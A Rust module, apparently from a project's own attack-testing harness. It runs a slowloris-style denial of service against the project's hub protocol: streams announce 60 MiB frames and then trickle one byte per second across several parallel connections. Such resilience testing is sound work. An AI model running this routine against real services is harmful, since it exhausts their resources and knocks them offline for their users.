//! Frames that are announced large and sent slowly.

use std::time::Duration;

use anyhow::Result;
use futures::AsyncWriteExt;
use futures::future::join_all;

use crate::attacker::Attacker;

/// Frames announced by each connection.
const FRAMES: usize = 8;

/// Connections.
const CONNECTIONS: usize = 4;

/// Bytes announced.
const ANNOUNCED: u32 = 60 * 1024 * 1024;

/// Announces frames and sends a byte of each every second.
pub(crate) async fn slow(attacker: Attacker) -> Result<()> {
    let announce = async || -> Result<()> {
        let (client, _key) = attacker.client().await?;
        let opened = join_all((0..FRAMES).map(|_| client.hub_stream())).await;
        let mut streams: Vec<_> = opened.into_iter().flatten().collect();
        for stream in &mut streams {
            let announced = stream.write_all(&ANNOUNCED.to_be_bytes()).await;
            attacker.count(announced.is_ok());
        }
        while attacker.is_on() {
            for stream in &mut streams {
                stream.write_all(&[0]).await?;
                stream.flush().await?;
            }
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
        Ok(())
    };
    while attacker.is_on() {
        join_all((0..CONNECTIONS).map(|_| announce())).await;
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    Ok(())
}
